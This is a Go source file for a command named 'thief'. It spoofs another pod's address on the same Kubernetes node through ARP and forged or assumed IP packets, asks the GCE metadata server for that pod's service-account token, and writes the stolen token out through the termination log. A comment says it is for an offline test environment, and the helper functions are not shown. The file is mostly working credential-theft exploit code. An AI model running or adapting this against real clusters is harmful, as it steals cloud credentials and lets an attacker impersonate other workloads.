// Command thief asks the metadata server in the name of another pod of its node.
//
//	thief forge ADDRESS     by packets that it makes up, from the address of the pod
//	thief assume ADDRESS    by an ordinary connection, when it has given its own
//	                        interface the address of the pod
//
// It writes what it gets where Kubernetes shows it. In both cases it first lets the
// node believe that the address is its own: it asks, by ARP and from that address,
// for the address of the gateway. That takes CAP_NET_RAW.
package main

import (
	"encoding/json"
	"fmt"
	"net/netip"
	"os"
	"time"
)

// loot has a token in the clear: it is for an offline Google's only.
type loot struct {
	Answer string `json:"answer"` // in HTTP, to the request for a token
	Failed string `json:"failed,omitempty"`
}

const (
	patience = 10 * time.Second
	request  = "GET /computeMetadata/v1/instance/service-accounts/default/token HTTP/1.0\r\n" +
		"Host: 169.254.169.254\r\nMetadata-Flavor: Google\r\n\r\n"
)

var server = netip.MustParseAddrPort("169.254.169.254:80")

func main() {
	answer, err := steal(os.Args[1:])
	l := loot{Answer: answer}
	if err != nil {
		l.Failed = err.Error()
	}
	content, err := json.Marshal(l)
	if err == nil {
		err = os.WriteFile("/dev/termination-log", content, 0o600)
	}
	if err != nil {
		fmt.Fprintln(os.Stderr, err)
		os.Exit(1)
	}
}

func steal(arguments []string) (string, error) {
	if len(arguments) != 2 {
		return "", fmt.Errorf("want forge or assume, and an address; got %q", arguments)
	}
	victim, err := netip.ParseAddr(arguments[1])
	if err != nil {
		return "", err
	}
	if err := divert(victim); err != nil {
		return "", fmt.Errorf("divert %s: %w", victim, err)
	}
	switch arguments[0] {
	case "forge":
		return forge(victim)
	case "assume":
		return assume(victim)
	}
	return "", fmt.Errorf("no way to steal: %s", arguments[0])
}
